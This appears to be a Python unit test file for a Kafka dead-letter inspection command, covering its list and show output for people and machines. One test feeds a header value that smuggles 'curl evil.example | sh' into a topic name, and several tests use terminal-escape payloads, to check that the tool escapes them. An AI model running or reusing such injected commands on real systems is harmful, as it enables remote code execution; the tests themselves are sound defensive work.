"""What `list` and `show` print, for a person and for a machine."""

import io
from collections.abc import Iterable

import orjson
from rich.console import Console, RenderableType

from consumer.core.record import Headers
from consumer.letters.commands import print_to
from consumer.letters.content_text import Extent, Where
from consumer.letters.counting import HOUR_MS, count_letters
from consumer.letters.counts_json import counts_json
from consumer.letters.counts_text import counts_text
from consumer.letters.judged_text import judged_text
from consumer.letters.letter import Letter
from consumer.letters.letter_json import letter_json
from consumer.letters.letter_text import letter_text
from tests.unit.consumer.letters.letters import NOON_MS, cause, stored, strange
from transforms import compile_blueprint, load_preset
from transforms.compiled.explanation import explain

NOW = NOON_MS / 1000 + 180
SHORT = Extent(is_full=False, has_all_headers=False)
FULL = Extent(is_full=True, has_all_headers=True)
DEFAULT = compile_blueprint(load_preset("default"))
THEIRS: Headers = [("trace", b"\xff\x1b[2J"), ("none", None)]


def printed(parts: Iterable[RenderableType]) -> list[str]:
    """The lines of a wide terminal, without what fills them up; none may steer it."""
    text = io.StringIO()
    console = Console(file=text, width=200, highlight=False, markup=False)
    print_to(console, parts)
    lines = [line.rstrip() for line in text.getvalue().splitlines()]
    assert all(line.isprintable() for line in lines)
    return lines


def listed(letters: Iterable[Letter], reason: str | None = None, asked: str = "") -> list[str]:
    """What `list` prints."""
    return printed(counts_text(count_letters(letters, reason), "dead", asked, NOW))


def shown(letter: Letter, extent: Extent = SHORT) -> list[str]:
    """What `show` prints of the letter itself."""
    return printed(letter_text(letter, Where("dead", "kafka-1:9092"), extent, NOW))


def test_a_list_says_how_many_of_what_and_what_to_do() -> None:
    """In the order that somebody who was woken up asks."""
    letters = [stored(cause(), offset=1), stored(cause(), offset=2), stored(cause("rejected", status=400), offset=3)]
    lines = listed(letters)
    assert lines[:2] == [
        "3 dead letters in dead",
        "first 2026-01-01 12:00:00 UTC, last 2026-01-01 12:00:00 UTC (3 min ago)",
    ]
    assert [line.split() for line in lines[4:6]] == [
        ["2", "goal_id_missing", "Signed", "Up", "not", "sent", "01-01", "12:00", "01-01", "12:00", "1:2", "7:42"],
        ["1", "rejected", "Signed", "Up", "400", "01-01", "12:00", "01-01", "12:00", "1:3", "7:42"],
    ]
    assert "its record: partition:offset in events" in lines[6]
    assert "goal_id_missing: send kameleoon_goal_id or set KAMELEOON_GOAL_IDS" in lines
    assert lines[-1] == "Look into one: signal-kameleoon dead-letters show 1:2"


def test_hours_are_bars() -> None:
    """The longest is the hour with the most; one letter is still to be seen."""
    letters = [stored(cause(failed_ms=NOON_MS + (HOUR_MS if late else 0))) for late in [0] + [1] * 200]
    lines = listed(letters)
    assert "01-01 12:00    1  #" in lines
    assert f"01-01 13:00  200  {'#' * 40}" in lines


def test_a_list_that_is_empty_says_why() -> None:
    """Nothing there is not the same as nothing of this kind."""
    assert listed([]) == ["no dead letters in dead"]
    assert listed([stored(cause()), strange()], "not_json", "with reason not_json") == [
        "no dead letters with reason not_json in dead (2 letters were read)",
        "Reasons there: goal_id_missing 1, (no letter of ours) 1",
    ]


def test_a_machine_reads_the_same_counts() -> None:
    """With the coordinates apart."""
    told = orjson.loads(counts_json(count_letters([stored(cause())], None), "dead"))
    assert (told["topic"], told["read"], told["letters"]) == ("dead", 1, 1)
    assert told["kinds"] == [
        {
            "reason": "goal_id_missing",
            "rule": "Signed Up",
            "status": None,
            "letters": 1,
            "first": "2026-01-01T12:00:00Z",
            "last": "2026-01-01T12:00:00Z",
            "newest": {"partition": 1, "offset": 10},
            "newest_source": {"topic": "events", "partition": 7, "offset": 42},
        }
    ]
    assert told["hours"] == [{"begin": "2026-01-01T12:00:00Z", "letters": 1}]


def test_a_letter_says_why_where_from_and_what_it_holds() -> None:
    """Nothing of ours or of Connect's among the record's headers; whatever would steer a terminal is escaped."""
    assert shown(stored(cause(), value=b'{"a":"\x7f\xc2\x9b"}', headers=THEIRS)) == [
        "Dead letter 1:10 of dead",
        "Why         goal_id_missing: the conversion has no goal id",
        "What to do  send kameleoon_goal_id or set KAMELEOON_GOAL_IDS",
        "Rule        Signed Up",
        "Sent        never",
        "Record      events, partition 7, offset 42, written 2026-01-01 11:59:59 UTC",
        "Failed      2026-01-01 12:00:00 UTC (3 min ago)",
        "Written by  group signal-kameleoon-abc, site code abc, version 1.2.3",
        "",
        "Headers of the record: 2",
        "  trace  \\xff\\u001b[2J",
        "  none   null",
        "Key: key-42",
        "Value: 11 bytes, JSON",
        "  {",
        '    "a": "\\u007f\\u009b"',
        "  }",
    ]


def test_a_letter_that_the_api_refused_says_how_often_and_since_when() -> None:
    """The first failure may be long before the last."""
    lines = shown(stored(cause("rejected", status=400, attempts=2, first_failure_ms=NOON_MS - 60_000)))
    assert "Sent        2 times; the API refused it with 400" in lines
    assert any(line.startswith("Failed      first 2026-01-01 11:59:00 UTC, last 2026-01-01 12:00:00") for line in lines)


def test_a_value_that_was_left_out_is_to_be_found_at_its_source() -> None:
    """With the command that reads it."""
    lines = shown(stored(cause("not_json"), value=b"x" * 9, has_value=False))
    assert "Value: left out, since its 9 bytes are more than the dead-letter topic takes" in lines
    assert "--bootstrap-server kafka-1:9092 --topic events --partition 7 --offset 42" in lines[-1]
    assert printed(judged_text(None, "mapping.yaml", DEFAULT.blueprint))[1:] == [
        "What the mapping makes of it today (mapping.yaml)",
        "  not judged: the value is not here",
    ]


def test_what_a_stranger_wrote_into_the_headers_is_no_command() -> None:
    """Not of the coordinates, and neither name nor text of a header steers the terminal."""
    said = {"topic": "signal; curl evil.example | sh #", "partition": "0", "offset": "7", "odd\x1b[2J\u202e": "\x9b2J"}
    headers: Headers = [(f"signal-kameleoon.{name}", text.encode()) for name, text in said.items()]
    lines = shown(strange([*headers, ("signal-kameleoon.value-sha256", b"0" * 64)], None))
    assert not any("kafka-console-consumer" in line for line in lines)
    assert any("unknown: no record of Kafka has these coordinates: topic signal; curl" in line for line in lines)
    assert "Value: left out" in lines[-2]


def test_a_tombstone_says_that_it_is_one() -> None:
    """It was one in the source topic already."""
    assert shown(stored(cause("empty"), value=None))[-1] == "Value: null (a tombstone)"


def test_a_long_value_is_cut_unless_all_is_wanted() -> None:
    """And so are headers."""
    letter = stored(cause(), value=b"x" * 4_001, headers=[("long", b"y" * 201)])
    assert shown(letter)[-1] == "  … characters left out: 1 (--full shows all)"
    whole = "".join(shown(letter, FULL))
    assert whole.count("x") >= 4_001
    assert whole.count("y") >= 201
    assert "__connect.errors.stage" in whole


def test_what_is_no_letter_of_ours_is_shown_all_the_same() -> None:
    """Whoever wrote it."""
    lines = shown(strange([("theirs", b"1")], b"text\nmore"))
    assert lines[1].startswith("Why     something else writes to this topic")
    assert lines[-2:] == ["  text", "  more"]


def test_the_judgement_is_what_explain_says() -> None:
    """By the mapping of today, which may be another than that of the letter."""
    value = b'{"event":"Signed Up","messageId":"m","anonymousId":"a","properties":{"kameleoon_goal_id":7}}'
    lines = printed(judged_text(explain(DEFAULT, value, NOW), None, DEFAULT.blueprint))
    assert lines[1] == "What the mapping makes of it today (the default mapping)"
    assert lines[2].startswith("  SEND")
    assert '    "goalId": 7' in lines


def test_a_machine_reads_the_whole_letter() -> None:
    """Bytes that are no text as base64, nothing cut, one line."""
    letter = stored(cause(), value=b'{"event":"x"}', headers=THEIRS)
    line = letter_json(letter, "dead", explain(DEFAULT, letter.value, NOW))
    assert line.count(b"\n") == 1
    told = orjson.loads(line)
    assert (told["partition"], told["offset"], told["reason"]) == (1, 10, "goal_id_missing")
    assert told["source"] == {"topic": "events", "partition": 7, "offset": 42}
    assert told["headers"][:2] == [["trace", {"base64": "/xtbMko="}], ["none", None]]
    assert told["value"] == {"text": '{"event":"x"}'}
    assert told["today"]["reason"] == "not_mapped"
    left_out = orjson.loads(letter_json(stored(cause(), has_value=False), "dead", None))
    assert (left_out["value"], left_out["is_value_left_out"], left_out["today"]) == (None, True, None)
